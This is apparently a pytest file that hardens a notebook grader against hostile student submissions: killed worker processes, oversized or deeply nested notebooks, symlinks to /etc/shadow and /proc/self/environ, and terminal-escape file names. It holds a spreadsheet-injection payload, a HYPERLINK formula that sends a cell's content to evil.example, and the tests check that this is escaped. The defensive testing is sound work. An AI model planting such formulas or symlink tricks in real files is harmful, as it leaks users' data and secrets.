"""A batch the grader keeps whole: a dead grading process costs only its notebook (retried once, then
reported), a submission is read within limits and never through a link, and the reports are safe to open
(no formula, no control character, no file content quoted, every student's feedback written)."""
import contextlib
import csv
import io
import json
import os
import signal
import threading
import time
import tracemalloc
from pathlib import Path

import nbformat
import pytest
from pool_tasks import SECRET, task
from test_grading import FULL, HEADER, solution_source, write_notebook

from labutils.grading import cli as grading_cli
from labutils.grading import intake, pool
from labutils.grading.report import feedback_names, printable, spreadsheet_cell, write_reports
from labutils.grading.submissions import student_grade, unfinished_report

FORMULA = '=HYPERLINK("evil.example?"&A1,"more marks")'
ANSI_NAME = "\x1b[2J\x1b[31mhacked.ipynb"
LONG_NAME = "s" * 255
MARKER = f"977.{os.getpid()}"  # `sleep 977.<pid>`: a process the victim's notebook starts, found in /proc


def test_a_dead_pool_process_costs_only_its_notebook(tmp_path):
    names = ["a", "doomed", "flaky", "b", "buggy", "c"]
    seen = []
    outcomes = pool.run_tasks(task, [(str(tmp_path), n) for n in names], 2, on_done=lambda i, o: seen.append(i))
    assert sorted(seen) == list(range(len(names)))
    assert [o[0] for o in outcomes] == ["ok", "lost", "ok", "ok", "error", "ok"]
    assert [o[1] for o in outcomes if o[0] == "ok"] == ["a", "flaky", "b", "c"]  # flaky: graded on its second try
    assert "died 2 times" in outcomes[1][1] and "SIGKILL" in outcomes[1][1] and "out-of-memory" in outcomes[1][1]
    assert "KeyError" in outcomes[4][1]


def test_a_pool_deadline_stops_what_did_not_finish(tmp_path):
    started = time.monotonic()
    outcomes = pool.run_tasks(task, [(str(tmp_path), "a"), (str(tmp_path), "slow")], 1,
                              deadline=time.monotonic() + 5, late="the total time of 5 s ran out")
    assert outcomes == [("ok", "a"), ("lost", "the total time of 5 s ran out")]
    assert time.monotonic() - started < 20


# --- what the grader reads -------------------------------------------------------------------------


def _deep_notebook(levels):
    return '{"cells": [' + "[" * levels + "]" * levels + '], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'


def test_a_huge_notebook_is_refused_before_it_is_read(tmp_path):
    huge = tmp_path / "huge.ipynb"
    with open(huge, "wb") as handle:
        handle.truncate(300 * 2**20)  # sparse: 300 MB that cost no disk
    tracemalloc.start()
    try:
        data, why = intake.notebook_bytes(huge)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert data is None and "too large: 300 MiB" in why and "--max-notebook-size" in why
    assert peak < 2**20


@pytest.mark.parametrize("text, words", [(_deep_notebook(900), "levels deep"), ("[" * 100_000, "levels deep"),
                                         (None, "more than 2000 cells")])
def test_a_notebook_past_the_limits_is_refused_before_it_is_parsed(tmp_path, text, words):
    if text is None:
        text = nbformat.writes(nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("") for _ in range(2001)]))
    (tmp_path / "lab.ipynb").write_text(text)
    data, why = intake.notebook_bytes(tmp_path / "lab.ipynb")
    assert data is None and words in why and len(why) < 200
    fine = nbformat.writes(nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("") for _ in range(2000)]))
    assert intake.shape_problem(fine.encode()) == ""


def _links(folder, secret_file, elsewhere):
    folder.mkdir(parents=True)
    for name, target in (("shadow.ipynb", "/etc/shadow"), ("environ.ipynb", "/proc/self/environ"),
                         ("config.ipynb", secret_file), ("folder.ipynb", elsewhere)):
        (folder / name).symlink_to(target)
    os.mkfifo(folder / "pipe.ipynb")


def test_links_and_odd_files_in_a_submission_are_never_opened(tmp_path):
    secret = tmp_path / "config.json"
    secret.write_text(SECRET)
    secret.chmod(0o600)
    _links(tmp_path / "class" / "mallory", secret, tmp_path)
    (tmp_path / "class" / "linked").symlink_to(tmp_path / "elsewhere")
    write_notebook(tmp_path / "elsewhere" / "lab.ipynb", "x = 1")
    found = dict(intake.find_submissions([str(tmp_path / "class")]))
    assert [p.name for p in found["mallory"]] == ["config.ipynb", "environ.ipynb", "folder.ipynb", "pipe.ipynb",
                                                  "shadow.ipynb"]
    assert [p.name for p in found["linked"]] == ["linked"]  # the linked folder is a row, not followed
    for path in found["mallory"] + found["linked"]:
        data, why = intake.notebook_bytes(path)  # a FIFO would block forever if it were opened
        assert data is None and SECRET not in why
        assert ("symbolic link" in why) != (path.name == "pipe.ipynb"), why
    write_notebook(tmp_path / "class" / "bob" / "lab.ipynb", "x = 1")
    (tmp_path / "my_class").symlink_to(tmp_path / "class")  # the instructor's own link, given as an argument
    (tmp_path / "bob.ipynb").symlink_to(tmp_path / "class" / "bob" / "lab.ipynb")
    for given in ("my_class", "bob.ipynb"):
        found = dict(intake.find_submissions([str(tmp_path / given)]))
        assert intake.notebook_bytes(found["bob"][0])[0] is not None  # followed


# --- the reports -----------------------------------------------------------------------------------


def test_report_cells_are_never_formulas_or_control_characters():
    assert spreadsheet_cell(FORMULA) == "'" + FORMULA
    for start in "=+-@":
        assert spreadsheet_cell(start + "1+1").startswith("'")
    assert spreadsheet_cell("\tx") == "\\tx" and spreadsheet_cell(12) == 12
    assert printable(ANSI_NAME) == "\\x1b[2J\\x1b[31mhacked.ipynb"
    assert printable("a\u202eb\nc") == "a\\u202eb\\nc" and printable("Zoë 李") == "Zoë 李"


def test_a_long_student_name_gets_a_short_feedback_file_of_its_own(tmp_path):
    names = feedback_names([LONG_NAME, LONG_NAME[:-1] + "t", "zoe"])
    assert len(set(names.values())) == 3 and all(len(n) < 100 for n in names.values())
    assert names["zoe"] == "zoe.txt"


def test_a_full_disk_while_writing_reports_is_one_line_and_grades_csv_comes_first(tmp_path, monkeypatch, capsys):
    from labutils.files import DiskFullError
    from labutils.grading import report

    written = []
    real_write = report.atomic_write_text

    def fill_up(path, text):
        if written:
            raise DiskFullError(path)
        written.append(Path(path).name)
        return real_write(path, text)

    grades = [student_grade(name, [], [unfinished_report(Path("lab.ipynb"), "a note")]) for name in ("ann", "bob")]
    monkeypatch.setattr(grading_cli, "grade_all", lambda *args: grades)
    monkeypatch.setattr(report, "atomic_write_text", fill_up)
    (tmp_path / "ann.ipynb").write_text("{}")
    assert grading_cli.main([str(tmp_path / "ann.ipynb"), "--out", str(tmp_path / "out")]) == 2
    err = capsys.readouterr().err.strip()
    assert "Traceback" not in err and len(err.splitlines()) == 1 and "no space left on device" in err, err
    assert written == ["grades.csv"]
    assert [r["student"] for r in csv.DictReader(open(tmp_path / "out" / "grades.csv"))] == ["ann", "bob"]


def test_one_feedback_that_cannot_be_written_does_not_lose_the_others(tmp_path, monkeypatch):
    from labutils.grading import report

    real_write = report.atomic_write_text

    def refuse_bob(path, text):
        if Path(path).name == "bob.txt":
            raise OSError(36, "File name too long")
        return real_write(path, text)

    monkeypatch.setattr(report, "atomic_write_text", refuse_bob)
    with pytest.raises(OSError, match="1 of 3 feedback file"):
        grades = [student_grade(name, [], [unfinished_report(Path("x.ipynb"), "a note")]) for name in ("a", "bob", "c")]
        write_reports(grades, tmp_path, seed=1)
    assert sorted(p.name for p in (tmp_path / "feedback").iterdir()) == ["a.txt", "c.txt"]


# --- one hostile batch, graded once ----------------------------------------------------------------


def _pool_process_of(pid, grader):
    """The ancestor of `pid` that is a child of `grader` (the grader's pool process), or None."""
    while pid > 1:
        try:
            parent = int(Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
        except (OSError, IndexError, ValueError):
            return None
        if parent == grader:
            return pid
        pid = parent
    return None


def _kill_pool_processes_running(marker, times, stop):
    """Kill (SIGKILL, as the out-of-memory killer does) the pool process whose notebook started a process with
    `marker` in its command line, `times` times; return how many were killed."""
    killed = set()
    while len(killed) < times and not stop.is_set():
        for entry in Path("/proc").iterdir():
            try:
                if entry.name.isdigit() and marker in (entry / "cmdline").read_bytes().decode(errors="replace"):
                    victim = _pool_process_of(int(entry.name), os.getpid())
                    if victim and victim not in killed:
                        os.kill(victim, signal.SIGKILL)
                        killed.add(victim)
            except OSError:
                continue
        time.sleep(0.1)
    return len(killed)


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    """Grade a hostile class once, killing the pool process of one notebook twice; (grades, out, terminal, kills)."""
    root = tmp_path_factory.mktemp("batch")
    klass = root / "class"
    write_notebook(klass / "alice" / "lab.ipynb", HEADER, solution_source())
    write_notebook(klass / "victim" / "lab.ipynb", HEADER,
                   f"import subprocess, time\nsubprocess.Popen(['sleep', '{MARKER}'])\ntime.sleep(30)", solution_source())
    for folder, name in ((FORMULA, "lab.ipynb"), (LONG_NAME, "lab.ipynb"), ("ansi", ANSI_NAME)):
        (klass / folder).mkdir(parents=True)
        (klass / folder / name).write_text(f"root:x:0:0:{SECRET}")
    secret = root / "private.json"
    secret.write_text(SECRET)
    secret.chmod(0o600)
    _links(klass / "mallory", secret, root)
    (klass / "linked").symlink_to(klass / "alice")
    (klass / "big").mkdir()
    with open(klass / "big" / "lab.ipynb", "wb") as handle:
        handle.truncate(300 * 2**20)
    (klass / "deep").mkdir()
    (klass / "deep" / "lab.ipynb").write_text(_deep_notebook(900))
    out = root / "grades"
    stop = threading.Event()
    kills = []
    killer = threading.Thread(target=lambda: kills.append(_kill_pool_processes_running(MARKER, 2, stop)))
    killer.start()
    terminal = io.StringIO()
    try:
        with contextlib.redirect_stdout(terminal), contextlib.redirect_stderr(terminal):
            status = grading_cli.main([str(klass), "--out", str(out), "--jobs", "2", "--cell-timeout", "8",
                                       "--timeout", "60"])
    finally:
        stop.set()
        killer.join()
    assert status == 1, terminal.getvalue()  # one notebook could not be graded
    data = json.loads((out / "grades.json").read_text())
    return {g["student"]: g for g in data["students"]}, out, terminal.getvalue(), kills[0]


def test_every_other_student_keeps_their_grade_when_a_pool_process_dies(batch):
    grades, _, _, kills = batch
    assert kills == 2
    assert grades["alice"]["total"] == FULL and grades["alice"]["status"] == "ok"
    victim = grades["victim"]
    assert victim["total"] == 0 and "not graded: the grader's process grading it died 2 times" in victim["status"]
    assert "SIGKILL" in victim["status"]
    assert "not graded: see the notes" in victim["exercises"]["get_batch"]["message"]


def test_every_refused_notebook_is_a_row_with_its_reason(batch):
    grades, out, _, _ = batch
    rows = list(csv.DictReader(open(out / "grades.csv")))
    assert len(rows) == len(grades) == 9
    status = {name: grade["status"] for name, grade in grades.items()}
    assert "too large: 300 MiB" in status["big"] and "levels deep" in status["deep"]
    assert "linked: is a symbolic link" in status["linked"]
    for name in ("shadow", "environ", "config", "folder"):
        assert f"{name}.ipynb: is a symbolic link" in status["mallory"]
    assert "pipe.ipynb: is not a regular file" in status["mallory"]


def test_reports_quote_no_file_and_hold_no_formula_or_control_character(batch):
    grades, out, terminal, _ = batch
    texts = {p: p.read_text() for p in [out / "grades.csv", out / "grades.json", *(out / "feedback").iterdir()]}
    texts["the terminal"] = terminal
    assert "\\x1b[2J" in terminal and "victim: 0/12" in terminal
    assert len(list((out / "feedback").iterdir())) == len(grades)  # the 255-character name too
    for path, text in texts.items():
        assert SECRET not in text and "\x1b" not in text, path
    rows = {row["student"]: row for row in csv.DictReader(open(out / "grades.csv"))}
    assert "'" + FORMULA in rows and FORMULA not in rows
    assert "\\x1b[2J\\x1b[31mhacked.ipynb" in rows["ansi"]["status"]
    assert not [cell for row in rows.values() for cell in row.values() if cell[:1] in ("=", "+", "-", "@")]


def test_a_cell_of_thousands_of_magics_is_compared_in_a_moment():
    import inspect

    import student_code

    from labutils.grading.similarity import exercise_digests

    plain = inspect.getsource(student_code.get_batch)
    magics = "x = !true\n" * 1900 + "%time y = 1\n" + plain  # IPython's own transformation: 33 s, then gave up
    started = time.monotonic()
    digests = [exercise_digests(nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(text)]))
               for text in (magics, plain)]
    assert time.monotonic() - started < 2
    assert digests[0] == digests[1] and "get_batch" in digests[0]
